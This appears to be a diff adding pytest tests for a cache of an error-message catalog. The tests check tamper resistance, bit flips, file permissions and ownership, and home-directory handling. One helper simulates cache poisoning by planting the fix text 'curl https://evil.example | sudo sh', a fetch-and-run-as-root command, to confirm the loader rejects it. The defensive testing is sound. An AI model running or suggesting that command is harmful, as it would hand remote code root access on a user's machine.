@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import re
 from pathlib import Path
 
 import pytest
@@ -178,3 +179,146 @@ def test_broken_records_are_never_cached(tmp_path, cache_dir):
     with pytest.raises(CatalogError):
         load(str(tmp_path))
     assert not cache_dir.exists()
+
+
+def test_a_same_length_edit_is_not_served_from_the_cache(tmp_path, cache_dir):
+    entries = tmp_path / "entries"
+    write(entries, "some-entry", RECORD)
+    load(str(entries))
+    write(entries, "some-entry", RECORD.replace("A title", "B title"))
+    assert load(str(entries))["some-entry"].title == "B title"
+
+
+def _contents(loaded: catalog.Catalog) -> list[tuple[object, ...]]:
+    return [
+        (e.id, e.title, e.cause, e.fix, e.details, [(w.variant, w.message) for w in e.wordings])
+        for e in loaded
+    ]
+
+
+def test_no_bit_flip_in_the_cache_breaks_or_changes_anything(tmp_path, cache_dir):
+    entries = tmp_path / "entries"
+    entries.mkdir()
+    for name in ("inplace-modified", "leaf-inplace", "grad-is-none"):
+        text = (Path(catalog.ENTRIES_DIR) / f"{name}.toml").read_text(encoding="utf-8")
+        write(entries, name, re.sub(r"(?m)^related = .*$", "", text))  # real records, alone
+    truth = _contents(load(str(entries), use_cache=False))
+    load(str(entries))
+    (cached,) = cache_dir.iterdir()
+    good = cached.read_bytes()
+    step = max(1, len(good) * 8 // 150)
+    for bit in range(0, len(good) * 8, step):
+        flipped = bytearray(good)
+        flipped[bit // 8] ^= 1 << (bit % 8)
+        cached.write_bytes(bytes(flipped))
+        assert _contents(load(str(entries))) == truth, f"bit {bit} flipped"
+
+
+def _valid_cache_file(cached: Path, data: object) -> None:
+    """What an attacker who knows the format writes: a well-formed file with other contents."""
+    import marshal
+    import zlib
+
+    payload = marshal.dumps(data)
+    cached.write_bytes(catalog._MAGIC + zlib.crc32(payload).to_bytes(4, "big") + payload)
+
+
+@pytest.mark.parametrize("planted", ["bare", "framed"])
+def test_an_emptied_cache_is_not_an_empty_catalog(tmp_path, cache_dir, planted):
+    import marshal
+
+    entries = tmp_path / "entries"
+    write(entries, "some-entry", RECORD)
+    load(str(entries))
+    (cached,) = cache_dir.iterdir()
+    empty = {"records": {}, "anchors": {}}
+    if planted == "bare":
+        cached.write_bytes(marshal.dumps(empty))
+    else:
+        _valid_cache_file(cached, {"checksum": cached.name[8:-8], **empty})
+    assert load(str(entries)).ids == ["some-entry"]
+
+
+def _poisoned(tmp_path: Path, cache_dir: Path) -> tuple[Path, Path]:
+    """A cache whose fix text an attacker chose, well-formed and matching the records."""
+    entries = tmp_path / "entries"
+    write(entries, "some-entry", RECORD)
+    load(str(entries))
+    (cached,) = cache_dir.iterdir()
+    import marshal
+
+    data = marshal.loads(cached.read_bytes()[len(catalog._MAGIC) + 4 :])
+    data["records"]["some-entry"]["fix"] = "Run `curl https://evil.example | sudo sh`."
+    _valid_cache_file(cached, data)
+    assert load(str(entries))["some-entry"].fix.startswith("Run `curl")  # the format is right
+    return entries, cached
+
+
+def test_a_cache_file_others_can_write_is_not_trusted(tmp_path, cache_dir):
+    entries, cached = _poisoned(tmp_path, cache_dir)
+    cached.chmod(0o666)
+    assert load(str(entries))["some-entry"].fix == "How."
+
+
+def test_a_cache_directory_others_can_write_is_not_trusted(tmp_path, cache_dir):
+    entries, _ = _poisoned(tmp_path, cache_dir)
+    cache_dir.chmod(0o777)
+    assert load(str(entries))["some-entry"].fix == "How."
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
+@pytest.mark.parametrize("owned", ["file", "directory"])
+def test_a_cache_another_user_owns_is_not_trusted(tmp_path, cache_dir, owned):
+    entries, cached = _poisoned(tmp_path, cache_dir)
+    os.chown(cached if owned == "file" else cache_dir, 65534, 65534)
+    assert load(str(entries))["some-entry"].fix == "How."
+
+
+def test_a_relative_xdg_cache_home_is_ignored(tmp_path, monkeypatch):
+    monkeypatch.delenv("AUTOGRAD_ERRORS_CACHE_DIR", raising=False)
+    monkeypatch.setenv("XDG_CACHE_HOME", "relative-cache")
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    monkeypatch.chdir(tmp_path)
+    write(tmp_path / "entries", "some-entry", RECORD)
+    load(str(tmp_path / "entries"))
+    assert not (tmp_path / "relative-cache").exists()
+    assert len(list((tmp_path / "home" / ".cache" / "autograd-errors").iterdir())) == 1
+
+
+@pytest.mark.parametrize("home", ["", "/", "relative"])
+def test_no_home_directory_means_no_cache(tmp_path, monkeypatch, home):
+    monkeypatch.delenv("AUTOGRAD_ERRORS_CACHE_DIR", raising=False)
+    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
+    monkeypatch.setenv("HOME", home)
+    monkeypatch.chdir(tmp_path)
+    assert catalog._cache_root() is None
+    write(tmp_path / "entries", "some-entry", RECORD)
+    assert load(str(tmp_path / "entries"))["some-entry"].title == "A title"
+    assert sorted(os.listdir(tmp_path)) == ["entries"]
+
+
+def test_only_the_current_catalog_is_kept_in_the_cache(tmp_path, cache_dir):
+    entries = tmp_path / "entries"
+    for title in ("First", "Second", "Third"):
+        write(entries, "some-entry", RECORD.replace("A title", title))
+        load(str(entries))
+    (cached,) = cache_dir.iterdir()
+    assert load(str(entries))["some-entry"].title == "Third"
+    assert cached.name.startswith("catalog-")
+
+
+def test_stray_files_in_the_entries_directory_are_not_records(tmp_path):
+    entries = tmp_path / "entries"
+    write(entries, "some-entry", RECORD)
+    (entries / "x.toml").mkdir()
+    (entries / ".#some-entry.toml").symlink_to("root@host.1234:1700000000")
+    (entries / ".hidden.toml").write_text("not = [valid", encoding="utf-8")
+    (entries / "notes.txt").write_text("not a record", encoding="utf-8")
+    assert load(str(entries), use_cache=False).ids == ["some-entry"]
+
+
+def test_a_broken_record_still_gets_its_one_line_error(tmp_path):
+    write(tmp_path, "broken", "title = [")
+    with pytest.raises(CatalogError, match=r"^broken\.toml: ") as caught:
+        load(str(tmp_path), use_cache=False)
+    assert "\n" not in str(caught.value)
